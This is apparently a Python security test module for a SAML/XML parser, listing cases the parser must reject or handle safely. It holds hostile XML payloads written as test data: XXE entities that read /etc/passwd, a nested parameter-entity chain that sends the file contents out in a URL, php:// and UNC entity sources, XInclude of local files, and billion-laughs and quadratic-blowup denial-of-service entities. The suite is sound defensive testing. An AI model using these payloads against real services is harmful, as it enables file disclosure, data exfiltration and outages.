# SPDX-License-Identifier: Apache-2.0
"""Document types, entities and what reads files.

No message needs a document type. None is read: no declaration, no entity, no file, no address.
"""
from attack import ADA, EVE, case, change

DOCTYPE = r"a document type declaration \(DOCTYPE\) is not allowed"
ENTITY = "entities are not allowed"
XXE = "CWE-611; OWASP XXE"


def with_doctype(m, subset, before=b"", name="samlp:Response", text=None):
    """A good message with a document type in front; `text` in place of the name of the user."""
    xml = m.signed()
    if text is not None:
        xml = change(xml, [(">%s<" % ADA, ">%s<" % text)])
    return before + b"<!DOCTYPE " + name.encode() + b" " + subset.encode() + b">" + xml


LAUGHS = "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))

for _name, _changed, _source, _subset, _text in (
        ("plain", "a document type without declarations", "XML 1.0, 2.8", "", None),
        ("internal", "an internal subset with an element", "XML 1.0, 2.8", "[<!ELEMENT r ANY>]", None),
        ("entity", "an internal entity for the name", "XML 1.0, 4.2.1", '[<!ENTITY e "%s">]' % EVE, "&e;"),
        ("external-subset", "an external subset", XXE, 'SYSTEM "http://127.0.0.1:9/x.dtd"', None),
        ("public", "an external subset with a public identifier", XXE, 'PUBLIC "-//x" "http://127.0.0.1:9/x.dtd"', None),
        ("file", "an external entity that is a file", XXE, '[<!ENTITY e SYSTEM "file:///etc/passwd">]', "&e;"),
        ("http", "an external entity by address", XXE, '[<!ENTITY e SYSTEM "http://127.0.0.1:9/">]', "&e;"),
        ("php", "an external entity by php://", XXE, '[<!ENTITY e SYSTEM "php://filter/read=x/resource=y">]', "&e;"),
        ("unc", "an external entity on a share", XXE, r'[<!ENTITY e SYSTEM "\\127.0.0.1\x">]', "&e;"),
        ("parameter", "a parameter entity", XXE, '[<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]', None),
        ("parameter-nested", "parameter entities that build one another, sent out in an address",
         XXE, '[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % g "<!ENTITY &#37; h SYSTEM '
         '\'http://127.0.0.1:9/?%f;\'>"> %g; %h;]', None),
        ("laughs", "a billion laughs", "CVE-2003-1564; CWE-776", '[<!ENTITY l0 "lol">%s]' % LAUGHS, "&l9;"),
        ("laughs-parameter", "a billion laughs of parameter entities", "CVE-2021-3541",
         '[<!ENTITY % a "lol"><!ENTITY % b "%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;"> %c;]', None),
        ("quadratic", "one long entity named many times", "CWE-776: quadratic blow-up",
         '[<!ENTITY e "%s">]' % ("x" * 50000), "&e;" * 10000),
        ("loop", "an entity that names itself", "XML 1.0, 4.1: no recursion", '[<!ENTITY e "&e;">]', "&e;"),
        ("loop-two", "two entities that name each other", "CVE-2014-0191 and its kin",
         '[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
        ("redefined", "a predefined entity declared anew", "XML 1.0, 4.6", '[<!ENTITY lt "%s">]' % EVE, "&lt;"),
        ("default-attribute", "an attribute's default by DTD: Recipient", "XML 1.0, 3.3.2",
         '[<!ATTLIST SubjectConfirmationData Recipient CDATA "https://sp.example.org/saml/acs">]', None),
        ("default-namespace", "a namespace by an attribute's default", "XML 1.0, 3.3.2",
         '[<!ATTLIST NameID xmlns CDATA "urn:x">]', None),
        ("fixed-id", "ID with a default, fixed", "XML 1.0, 3.3.2", '[<!ATTLIST Assertion ID ID #FIXED "_evil">]', None),
        ("normalised", "an attribute of another type is normalised otherwise", "Canonical XML 4.?; XML 1.0, 3.3.3",
         '[<!ATTLIST Attribute Name NMTOKENS #IMPLIED>]', None),
        ("notation", "a notation and an unparsed entity", "XML 1.0, 4.7",
         '[<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "file:///etc/passwd" NDATA n>]', None),
        ("conditional", "a conditional section", "XML 1.0, 3.4", "[<![INCLUDE[<!ELEMENT r ANY>]]>]", None),
        ("other-root", "a document type for another root", "XML 1.0, 2.8", "[]", None),
        ("unfinished", "a document type that does not end before the message", "XML 1.0, 2.8", "[", None)):
    @case("doctype-" + _name, changed=_changed, status="malformed", source=_source.replace(" 4.?", " 2.2"), says=DOCTYPE)
    def _(m, subset=_subset, text=_text, name="html" if _name == "other-root" else "samlp:Response"):
        return with_doctype(m, subset, text=text, name=name)


for _name, _changed, _before in (
        ("comment", "a comment", b"<!-- <x> -->"), ("pi", "a processing instruction", b"<?x <y> ?>"),
        ("space", "white space", b" \r\n\t"), ("bom", "a byte order mark", b"\xef\xbb\xbf"),
        ("declaration", "an XML declaration with standalone", b'<?xml version="1.0" standalone="yes"?>\n'),
        ("comments", "comments with what looks like the root", b"<!--<samlp:Response>--><!---->")):
    @case("doctype-behind-" + _name, changed="a document type behind " + _changed, status="malformed",
          source="XML 1.0, 2.8", says=DOCTYPE)
    def _(m, before=_before):
        return with_doctype(m, '[<!ENTITY e "%s">]' % EVE, before, text="&e;")


@case("doctype-lower-case", changed="<!doctype in lower case, which is no XML", status="malformed", source="XML 1.0, 2.8",
      says="is not XML: a declaration")
def _(m):
    return with_doctype(m, "").replace(b"<!DOCTYPE", b"<!doctype")


@case("doctype-inside", changed="a document type inside the root", status="malformed", source="XML 1.0, 2.8", says=DOCTYPE)
def _(m):
    return m.signed(after=[("<samlp:Status>", "<!DOCTYPE x []><samlp:Status>")])


@case("doctype-after", changed="a document type after the root", status="malformed", source="XML 1.0, 2.8", says=DOCTYPE)
def _(m):
    return m.signed() + b"<!DOCTYPE x []>"


@case("doctype-in-comment", changed="a document type in a comment, which is none", status="accepted",
      source="XML 1.0, 2.5")
def _(m):
    return b'<!--<!DOCTYPE x [<!ENTITY e "x">]>-->' + m.signed()


@case("doctype-in-cdata", changed="a document type in a CDATA section, which is text", status="accepted",
      source="XML 1.0, 2.7", user="<!DOCTYPE x>")
def _(m):
    return m.signed(name_id_xml="<![CDATA[<!DOCTYPE x>]]>")


@case("doctype-in-relay", changed="a second XML document with a document type behind the message", status="malformed",
      source="XML 1.0, 2.1", says="a second root element|is not XML|" + DOCTYPE)
def _(m):
    return m.signed() + b'<?xml version="1.0"?><!DOCTYPE x []><x/>'


@case("entity-decl-inside", changed="an entity declaration outside of any document type", status="malformed",
      source="XML 1.0, 4.2", says="is not XML: a declaration")
def _(m):
    return m.signed(after=[("<samlp:Status>", '<!ENTITY e "x"><samlp:Status>')])


for _name, _changed, _text in (
        ("undeclared", "an entity that nobody declares", "&e;"), ("html", "an entity of HTML", "ada&nbsp;@example.org"),
        ("case", "a predefined entity in another case", "&AMP;"), ("long", "an entity with a long name", "&%s;" % ("e" * 50))):
    @case("entity-" + _name, changed=_changed, status="malformed", source="XML 1.0, 4.1", says=ENTITY)
    def _(m, text=_text):
        return m.signed(after=[(">%s<" % ADA, ">%s<" % text)])


@case("entity-in-attribute", changed="an entity in an attribute", status="malformed", source="XML 1.0, 4.1", says=ENTITY)
def _(m):
    return m.signed(after=[('Recipient="', 'Recipient="&e;')])


@case("entity-unfinished", changed="an ampersand alone", status="malformed", source="XML 1.0, 4.1",
      says='"&" without a reference')
def _(m):
    return m.signed(after=[(">%s<" % ADA, ">ada & eve<")])


@case("entity-parameter-outside", changed="a parameter entity in the text, which is text there", status="accepted",
      source="XML 1.0, 4.4.1", user="%p;")
def _(m):
    return m.signed(name_id="%p;")


@case("xinclude", changed="XInclude of a file in an attribute value: stays what it is", status="accepted",
      source="XInclude 1.0; CWE-611", says=r'xi:include')
def _(m):
    return m.signed(attributes=[("urn:x", ["MARK"])], before=[
        ("MARK", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>')])


@case("xinclude-name-id", changed="XInclude of a file in the NameID", status="name-id", source="XInclude 1.0; CWE-611",
      says="NameID: expected text and no elements, got .include.")
def _(m):
    return m.signed(name_id_xml='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" '
                    'parse="text"/>')


@case("stylesheet", changed="an xml-stylesheet instruction with an address", status="accepted",
      source="Associating Style Sheets 1.0: nobody applies it")
def _(m):
    return b'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>' + m.signed()


@case("schema-location", changed="xsi:schemaLocation with an address", status="accepted",
      source="XML Schema 1, 4.3.2: a hint that nobody follows")
def _(m):
    return m.signed(before=[("<Assertion ", '<Assertion xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                             'xsi:schemaLocation="urn:x http://127.0.0.1:9/x.xsd" ')])


@case("xml-base", changed="xml:base on the Assertion, signed", status="accepted", source="XML Base: nobody resolves")
def _(m):
    return m.signed(before=[("<Assertion ", '<Assertion xml:base="http://127.0.0.1:9/" ')])


@case("xml-model", changed="an xml-model instruction with a document type's address", status="accepted",
      source="ISO/IEC 19757: nobody follows it")
def _(m):
    return b'<?xml-model href="http://127.0.0.1:9/x.dtd" type="application/xml-dtd"?>' + m.signed()


@case("declaration-second", changed="a second XML declaration inside", status="malformed", source="XML 1.0, 2.6",
      says="is not XML")
def _(m):
    return m.signed(after=[("<samlp:Status>", '<?xml version="1.0"?><samlp:Status>')])


@case("declaration-late", changed="an XML declaration behind white space", status="malformed", source="XML 1.0, 2.8",
      says="is not XML")
def _(m):
    return b' <?xml version="1.0"?>' + m.signed()


@case("declaration-encoding-entity", changed="an XML declaration whose encoding is an entity", status="malformed",
      source="XML 1.0, 4.3.3", says="expected the encoding UTF-8")
def _(m):
    return b'<?xml version="1.0" encoding="&e;"?>' + m.signed()
